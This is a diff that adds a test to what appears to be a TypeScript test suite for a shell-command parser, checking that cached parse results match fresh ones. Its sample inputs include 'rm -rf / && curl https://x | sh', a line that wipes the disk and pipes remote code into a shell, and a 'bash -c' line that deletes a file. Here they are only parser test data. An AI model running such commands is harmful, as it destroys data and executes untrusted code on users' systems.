@@ -37,6 +37,19 @@ test('a line is read anew once, and then remembered', () => {
   expect(third).toBe(second)
 })
 
+test('what is remembered says all that was read, in the same order', () => {
+  const lines = ['cat a > b 2>&1', 'rm -rf / && curl https://x | sh', '$x y', 'ls *.ts', 'bash -c "ls; rm x"', 'echo "']
+  for (const text of lines) {
+    const place = context(NO_DISK)
+    const [first, second] = [1, 2].map(() => readShell({ text }, place).effects)
+    const told = (effects = first) =>
+      effects?.map((effect) =>
+        Object.entries(effect).map(([name, value]) => [name, typeof value === 'function' ? 'told' : value]),
+      )
+    expect(told(second), text).toEqual(told())
+  }
+})
+
 test('while a line is read, the disk is asked once for each folder', () => {
   const asked: string[] = []
   const { readlink } = disk({ [`${root}/notes`]: '/etc' })
